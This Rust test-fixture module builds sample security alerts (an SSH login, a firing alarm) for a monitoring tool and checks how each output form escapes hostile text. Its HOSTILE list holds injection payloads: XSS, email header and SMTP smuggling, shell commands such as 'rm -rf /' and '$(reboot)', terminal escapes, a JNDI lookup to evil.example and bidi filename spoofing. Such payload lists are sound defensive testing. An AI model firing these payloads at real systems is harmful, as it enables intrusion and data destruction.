//! Letters for the tests of all forms.

use monban_model::{Fact, Letter, Passage, Picture, Setting, Severity, Stamp, Standing, Theme};

/// What strangers type to be more than data.
pub(crate) const HOSTILE: &[&str] = &[
    "x\r\nBcc: victim@example.com\r\n\r\n<h1>hi</h1>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><a href='javascript:alert(1)'>",
    "@everyone <@&1234> <!channel> <!here|x> <https://evil.example|bank>",
    "**bold** _it_ [bank](https://evil.example) ```\n`tick` ||spoiler|| # head",
    "$(reboot) `reboot` ; rm -rf / | ~! \n~! /bin/sh\n",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m",
    "\u{202e}gpj.exe\u{2066}\u{200f}",
    "NUL\0here",
    "\\ud800 \u{fffd} \u{10ffff} \u{feff}",
    "=?utf-8?Q?=0D=0ABcc:_x@example.com?=",
    "] evil=\"1\"][other@1 a=\"b\" \\",
    "{{DATE(2026-01-01T00:00:00Z)}} ${jndi:ldap://evil.example/a} {{constructor}}",
    "a\u{2028}b\u{2029}c\u{85}d",
    ".\r\n.\r\nQUIT\r\n",
];

fn fact(label: &str, value: &str) -> Fact {
    Fact { label: label.to_owned(), value: value.to_owned() }
}

fn passage(title: &str, setting: Setting, lines: &[&str]) -> Passage {
    let lines = lines.iter().map(|line| (*line).to_owned()).collect();
    Passage { title: title.to_owned(), setting, lines }
}

/// Somebody logged in.
pub(crate) fn login(lang: &str) -> Letter {
    let ja = lang == "ja";
    let say = |en: &str, in_ja: &str| if ja { in_ja.to_owned() } else { en.to_owned() };
    let key = "ED25519 SHA256:Wl1ZrQ4v6zFmM3nU2p1gkq0y3dJY0kqv5V1tS2pXo9E (alice@laptop)";
    let line = "Nov 22 14:33:01 web1 sshd[2714]: Accepted publickey for alice from 203.0.113.9 \
                port 50312 ssh2";
    Letter {
        id: "web1-00000042".to_owned(),
        thread: "login:alice".to_owned(),
        topic: "logins".to_owned(),
        theme: Theme::Login,
        severity: Severity::Notice,
        standing: Standing::Once,
        time: Stamp::from_s(1_795_325_581),
        since: Stamp::from_s(1_795_325_581),
        host: "web1".to_owned(),
        lang: lang.to_owned(),
        subject: say(
            "[web1] login: alice from 203.0.113.9 (JP, OCN), first time from there",
            "[web1] ログイン: alice、203.0.113.9 (JP, OCN) から。ここからは初めて",
        ),
        lead: say(
            "alice logged in over SSH with a key. She has never come from there before.",
            "aliceがSSHで鍵を使ってログインしました。この場所からのログインは初めてです。",
        ),
        facts: vec![
            fact(&say("User", "ユーザー"), "alice"),
            fact(&say("From", "接続元"), "203.0.113.9 (JP, OCN)"),
            fact(&say("Key", "鍵"), key),
            fact(&say("Time", "時刻"), "2026-11-22T05:33:01Z (14:33:01 JST)"),
        ],
        passages: vec![
            passage(&say("Lines of the log", "ログの行"), Setting::Log, &[line]),
            passage(
                &say("If that was not you", "心当たりがない場合"),
                Setting::Commands,
                &["monban ban 203.0.113.9", "monban why 203.0.113.9"],
            ),
        ],
        labels: vec![
            ("address".to_owned(), "203.0.113.9".to_owned()),
            ("service".to_owned(), "ssh".to_owned()),
            ("user".to_owned(), "alice".to_owned()),
        ],
        picture: None,
        data: r#"{"seq":42}"#.to_owned(),
    }
}

/// An alarm that fires, with a picture.
pub(crate) fn alarm(lang: &str) -> Letter {
    let ja = lang == "ja";
    let say = |en: &str, in_ja: &str| if ja { in_ja.to_owned() } else { en.to_owned() };
    let reason = "Threshold Crossed: 1 datapoint (6.0) was greater than or equal to the \
                  threshold (1.0).";
    let line = "Nov 25 08:21:45 web1 sshd[11912]: Connection closed by 198.51.100.7 [preauth]";
    Letter {
        id: "web1-00000107".to_owned(),
        thread: "alarm:変なSSHアクセスがありましたよ。".to_owned(),
        topic: "security".to_owned(),
        theme: Theme::Alarm,
        severity: Severity::Critical,
        standing: Standing::Firing,
        time: Stamp::from_s(1_795_325_640),
        since: Stamp::from_s(1_795_325_580),
        subject: say(
            "[web1] ALARM: 変なSSHアクセスがありましたよ。",
            "[web1] アラーム: 変なSSHアクセスがありましたよ。",
        ),
        lead: say(
            "The alarm went from OK to ALARM.\n6 connections were closed before a login.",
            "アラームがOKからALARMになりました。\nログイン前に切断された接続が6件あります。",
        ),
        facts: vec![
            fact(&say("Name", "名前"), "変なSSHアクセスがありましたよ。"),
            fact(&say("State Change", "状態の変化"), "OK -> ALARM"),
            fact(&say("Reason", "理由"), reason),
            fact(&say("Timestamp", "日時"), "2026-11-22T05:34:00Z (14:34:00 JST)"),
        ],
        passages: vec![
            passage(&say("Matching lines", "一致した行"), Setting::Log, &[line; 6]),
            passage(
                &say("Top addresses", "上位のアドレス"),
                Setting::List,
                &["198.51.100.7: 4", "203.0.113.80: 2"],
            ),
            passage(
                &say("What to do next", "次にできること"),
                Setting::Commands,
                &["monban ban 198.51.100.7", "monban alarms 変なSSHアクセスがありましたよ。"],
            ),
        ],
        labels: vec![("alarm".to_owned(), "変なSSHアクセスがありましたよ。".to_owned())],
        picture: Some(Picture { png: PNG.to_vec(), alt: say("The last hour", "この1時間") }),
        ..login(lang)
    }
}

/// A letter in which every text is what a stranger typed, all of them.
pub(crate) fn hostile() -> Letter {
    let all = HOSTILE.concat();
    let each = || HOSTILE.iter().map(|text| (*text).to_owned());
    Letter {
        id: all.clone(),
        thread: all.clone(),
        topic: all.clone(),
        host: all.clone(),
        subject: all.clone(),
        lead: all.clone(),
        facts: each().map(|text| Fact { label: text.clone(), value: text }).collect(),
        passages: [Setting::List, Setting::Log, Setting::Commands]
            .map(|setting| Passage { title: all.clone(), setting, lines: each().collect() })
            .to_vec(),
        labels: each().enumerate().map(|(at, text)| (format!("l{at:02}"), text)).collect(),
        picture: Some(Picture { png: PNG.to_vec(), alt: all }),
        data: "{\"broken\": \"\\ud800\"".to_owned(),
        ..alarm("en")
    }
}

/// As large as a letter may be, of characters that every form makes longer.
pub(crate) fn huge() -> Letter {
    let text = |bytes: usize| "<&\"`*]\\門😀\u{1}".repeat(bytes / 16);
    let mut letter = Letter {
        subject: text(100_000),
        lead: text(100_000),
        facts: vec![Fact { label: text(1000), value: text(5000) }; 500],
        passages: vec![
            Passage {
                title: text(1000),
                setting: Setting::Log,
                lines: vec![text(4000); 1000],
            };
            40
        ],
        labels: (0..99).map(|at| (format!("label_{at:02}"), text(4000))).collect(),
        ..hostile()
    };
    letter.clip();
    letter
}

/// A grey point.
pub(crate) const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x00, 0x00, 0x00, 0x00, 0x3a, 0x7e, 0x9b,
    0x55, 0x00, 0x00, 0x00, 0x0a, 0x49, 0x44, 0x41, 0x54, 0x78, 0xda, 0x63, 0x68, 0x00, 0x00, 0x00,
    0x82, 0x00, 0x81, 0x77, 0xcd, 0x72, 0xb6, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae,
    0x42, 0x60, 0x82,
];
